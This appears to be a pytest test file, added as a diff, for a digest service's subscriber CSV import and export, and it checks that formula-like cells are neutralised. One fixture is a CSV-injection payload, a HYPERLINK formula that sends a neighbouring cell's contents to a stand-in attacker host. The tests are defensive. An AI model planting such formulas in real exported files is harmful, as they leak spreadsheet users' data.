@@ -1,0 +1,183 @@
+"""Subscribers in and out of CSV, on both databases: every exported cell is safe to open in a
+spreadsheet, export -> import -> export changes nothing, topics without a word are refused
+at every door, and a file that is not CSV text fails whole with a clear reason."""
+
+from __future__ import annotations
+
+import csv
+import gzip
+import io
+import itertools
+import random
+from datetime import datetime, timedelta, timezone
+
+import pytest
+from sqlalchemy import select
+from sqlalchemy.orm import Session
+
+from digest.models import Subscriber, SubscriberStatus
+from digest.subscribers import (
+    FORMULA_STARTS,
+    InvalidForm,
+    SubscriberError,
+    add_subscriber,
+    export_csv,
+    from_spreadsheet_cell,
+    import_csv,
+    read_preferences,
+    set_topics,
+    spreadsheet_cell,
+)
+
+HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2, "Click for your papers")'
+
+
+def exported(session: Session) -> str:
+    out = io.StringIO()
+    export_csv(session, out)
+    return out.getvalue()
+
+
+def cells(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text)))
+
+
+# --- spreadsheet-safe cells ----------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "value, cell",
+    [
+        (HYPERLINK, "'" + HYPERLINK),
+        ("+1 555 0100", "'+1 555 0100"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        (" =1+1", "' =1+1"),
+        ("'=1+1", "''=1+1"),  # already quoted by hand: one more, so import gives it back
+        ("LoRA, =RLHF", "LoRA, =RLHF"),  # not at the start: no spreadsheet runs it
+        ("'tis the season", "'tis the season"),
+        ("", ""),
+        (None, ""),
+        (7, "7"),
+    ],
+)
+def test_a_cell_that_would_start_a_formula_is_neutralised(value: object, cell: str) -> None:
+    assert spreadsheet_cell(value) == cell
+    if value is not None:
+        assert from_spreadsheet_cell(cell) == str(value)
+
+
+def test_every_short_text_round_trips_through_a_cell() -> None:
+    alphabet = ["'", "=", "+", "-", "@", "\t", "\r", " ", "a", ","]
+    for size in range(5):
+        for letters in itertools.product(alphabet, repeat=size):
+            value = "".join(letters)
+            cell = spreadsheet_cell(value)
+            assert from_spreadsheet_cell(cell) == value, repr(value)
+            assert cell[:1] not in FORMULA_STARTS and not cell[:1].isspace(), repr(value)
+
+
+def test_a_hostile_topic_is_exported_as_text(session: Session) -> None:
+    add_subscriber(session, "=1+1@example.org", HYPERLINK, exclude="-medical",
+                   time_zone="Europe/Paris")
+    text = exported(session)
+    header, row = cells(text)
+    values = dict(zip(header, row, strict=True))
+    assert values["topics"] == "'" + HYPERLINK
+    assert values["email"] == "'=1+1@example.org"
+    assert values["exclude"] == "'-medical"
+    assert all(cell[:1] not in FORMULA_STARTS for cell in row)
+    # Every cell is quoted, so a ';' or a tab in a value cannot open a new cell either.
+    assert text.splitlines()[1].startswith('"\'=1+1@example.org","\'=HYPERLINK(')
+
+
+def test_export_import_export_is_identical(session: Session) -> None:
+    past = datetime(2025, 3, 4, 5, 6, 7, 890123, tzinfo=timezone.utc)
+    add_subscriber(session, "Ada@Example.org", "LoRA, RLHF", exclude="medical",
+                   time_zone="Asia/Tokyo", send_hour=6, papers_per_digest=4, now=past)
+    add_subscriber(session, "grace@example.org", HYPERLINK, exclude="'=quoted, @home",
+                   trending_fallback=True, status=SubscriberStatus.PENDING)
+    add_subscriber(session, "+alan@example.org", "'tis the season\n-  diffusion models",
+                   status=SubscriberStatus.UNSUBSCRIBED)
+    add_subscriber(session, "emmy@example.org", "graphs; molecules \"quoted\"",
+                   status=SubscriberStatus.BOUNCED)
+    first = exported(session)
+    for subscriber in session.scalars(select(Subscriber)):
+        session.delete(subscriber)
+    session.flush()
+    report = import_csv(session, io.StringIO(first))
+    assert report.errors == [] and len(report.imported) == 4
+    assert exported(session) == first
+    grace = session.scalars(select(Subscriber).where(Subscriber.email == "grace@example.org"))
+    assert grace.one().profile.topics == HYPERLINK  # the neutralising prefix is gone
+
+
+def test_import_refuses_dates_it_cannot_keep(session: Session) -> None:
+    future = (datetime.now(timezone.utc) + timedelta(days=2)).isoformat()
+    source = ("email,topics,created_at,confirmed_at\n"
+              "a@example.org,LoRA,yesterday,\n"
+              f"b@example.org,LoRA,{future},\n"
+              "c@example.org,LoRA,0001-01-01T00:00:00+05:00,\n"
+              "d@example.org,LoRA,2025-01-02T03:04:05,2025-01-03\n")
+    report = import_csv(session, io.StringIO(source))
+    assert report.imported == ["d@example.org"]
+    assert [e.split(":")[0] for e in report.errors] == ["line 2", "line 3", "line 4"]
+    assert "not a date and time" in report.errors[0] and "from 1970 to now" in report.errors[1]
+    d = session.scalars(select(Subscriber).where(Subscriber.email == "d@example.org")).one()
+    assert d.created_at == datetime(2025, 1, 2, 3, 4, 5, tzinfo=timezone.utc)
+    assert d.confirmed_at == datetime(2025, 1, 3, tzinfo=timezone.utc)
+
+
+# --- topics without a word ------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("topics", [" , , ", ",;\n;,", "--", "...", " ' \" ", "_ _"])
+def test_topics_without_a_word_are_refused_at_every_door(session: Session, topics: str) -> None:
+    with pytest.raises(SubscriberError, match="at least one topic"):
+        add_subscriber(session, "ada@example.org", topics)
+    with pytest.raises(InvalidForm) as form:
+        read_preferences({"topics": topics})
+    assert set(form.value.errors) == {"topics"}
+    add_subscriber(session, "grace@example.org", "LoRA")
+    with pytest.raises(SubscriberError, match="at least one topic"):
+        set_topics(session, "grace@example.org", topics)
+    source = io.StringIO()
+    csv.writer(source).writerows([["email", "topics"], ["alan@example.org", topics]])
+    report = import_csv(session, io.StringIO(source.getvalue()))
+    assert report.imported == [] and "at least one topic" in report.errors[0]
+    assert add_subscriber(session, "emmy@example.org", "C++, 3D").profile.topics == "C++, 3D"
+
+
+# --- files that are not CSV text -------------------------------------------------------------
+
+GOOD = b"email,topics\nada@example.org,LoRA\n"
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        random.Random(7).randbytes(4000),
+        gzip.compress(GOOD),
+        GOOD.decode().encode("utf-16"),
+        GOOD.decode().encode("utf-16-le"),  # no BOM: reads as UTF-8 with NULs in it
+        GOOD + b"grace@example.org,\xff\xfe binary tail\n",
+    ],
+    ids=["random", "gzip", "utf-16", "utf-16-le", "text-then-binary"],
+)
+def test_a_file_that_is_not_text_fails_whole(session: Session, data: bytes) -> None:
+    stream = io.TextIOWrapper(io.BytesIO(data), encoding="utf-8-sig")
+    with pytest.raises(SubscriberError, match="not UTF-8 text"):
+        import_csv(session, stream)
+
+
+def test_a_file_that_is_not_csv_fails_whole(session: Session) -> None:
+    huge = "email,topics\nada@example.org,\"" + "x" * 200_000 + "\"\n"
+    with pytest.raises(SubscriberError, match="Line 2 cannot be read as CSV"):
+        import_csv(session, io.StringIO(huge))
+
+
+def test_extra_cells_on_a_line_are_ignored(session: Session) -> None:
+    report = import_csv(session, io.StringIO("email,topics\nada@example.org,LoRA,extra,more\n"))
+    assert report.imported == ["ada@example.org"] and report.errors == []
